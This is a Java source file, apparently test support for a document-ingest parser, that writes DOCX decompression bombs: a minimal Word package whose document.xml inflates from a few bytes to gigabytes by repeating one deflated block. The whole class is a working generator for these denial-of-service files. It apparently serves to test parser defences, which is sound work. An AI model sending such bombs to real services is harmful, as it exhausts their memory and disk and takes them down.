package dev.grounded.ingest.parse;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import org.apache.commons.compress.archivers.zip.ZipArchiveEntry;
import org.apache.commons.compress.archivers.zip.ZipArchiveOutputStream;

/**
 * Writes DOCX decompression bombs: a minimal package whose {@code word/document.xml} is a run of
 * {@code <w:p><w:r><w:t>aaaa…</w:t></w:r></w:p>} inflating to the size asked. The deflated data is
 * built by compressing one megabyte of paragraphs once (a full flush resets the dictionary) and
 * repeating those bytes, so a 1 GB bomb is written in well under a second, as an attacker would.
 */
public final class ZipBombs {
  private static final String HEAD =
      "<?xml version=\"1.0\" encoding=\"UTF-8\"?><w:document"
          + " xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body>";
  private static final String TAIL = "</w:body></w:document>";

  private ZipBombs() {}

  /** A DOCX whose document.xml inflates to at least {@code inflatedBytes}. */
  public static Path docx(Path file, long inflatedBytes) throws IOException {
    byte[] block =
        ("<w:p><w:r><w:t>" + "a".repeat(1000) + "</w:t></w:r></w:p>")
            .repeat(1024)
            .getBytes(StandardCharsets.US_ASCII);
    long repeats = Math.max(1, (inflatedBytes + block.length - 1) / block.length);
    byte[] head = HEAD.getBytes(StandardCharsets.US_ASCII);
    byte[] tail = TAIL.getBytes(StandardCharsets.US_ASCII);
    byte[] deflatedBlock = deflate(block, false);
    ByteArrayOutputStream raw = new ByteArrayOutputStream();
    raw.write(deflate(head, false));
    for (long i = 0; i < repeats; i++) raw.write(deflatedBlock);
    raw.write(deflate(tail, true));
    CRC32 crc = new CRC32();
    crc.update(head);
    for (long i = 0; i < repeats; i++) crc.update(block);
    crc.update(tail);
    try (ZipArchiveOutputStream zip = new ZipArchiveOutputStream(file)) {
      put(zip, "[Content_Types].xml", CONTENT_TYPES);
      put(zip, "_rels/.rels", RELS);
      ZipArchiveEntry entry = new ZipArchiveEntry("word/document.xml");
      entry.setMethod(ZipEntry.DEFLATED);
      entry.setSize(head.length + repeats * block.length + tail.length);
      entry.setCompressedSize(raw.size());
      entry.setCrc(crc.getValue());
      zip.addRawArchiveEntry(entry, new ByteArrayInputStream(raw.toByteArray()));
    }
    return file;
  }

  /** Raw deflate of {@code data}: ending on a full flush, or as the final block. */
  private static byte[] deflate(byte[] data, boolean last) {
    Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION, true);
    try {
      deflater.setInput(data);
      if (last) deflater.finish();
      ByteArrayOutputStream out = new ByteArrayOutputStream();
      byte[] buffer = new byte[64 * 1024];
      while (true) {
        int n =
            last
                ? deflater.deflate(buffer)
                : deflater.deflate(buffer, 0, buffer.length, Deflater.FULL_FLUSH);
        out.write(buffer, 0, n);
        if (last ? deflater.finished() : n < buffer.length) return out.toByteArray();
      }
    } finally {
      deflater.end();
    }
  }

  private static void put(ZipArchiveOutputStream zip, String name, String content)
      throws IOException {
    zip.putArchiveEntry(new ZipArchiveEntry(name));
    zip.write(content.getBytes(StandardCharsets.UTF_8));
    zip.closeArchiveEntry();
  }

  private static final String CONTENT_TYPES =
      "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Types"
          + " xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default"
          + " Extension=\"rels\""
          + " ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/><Default"
          + " Extension=\"xml\" ContentType=\"application/xml\"/><Override"
          + " PartName=\"/word/document.xml\""
          + " ContentType=\"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>";

  private static final String RELS =
      "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships"
          + " xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship"
          + " Id=\"rId1\""
          + " Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument\""
          + " Target=\"word/document.xml\"/></Relationships>";
}
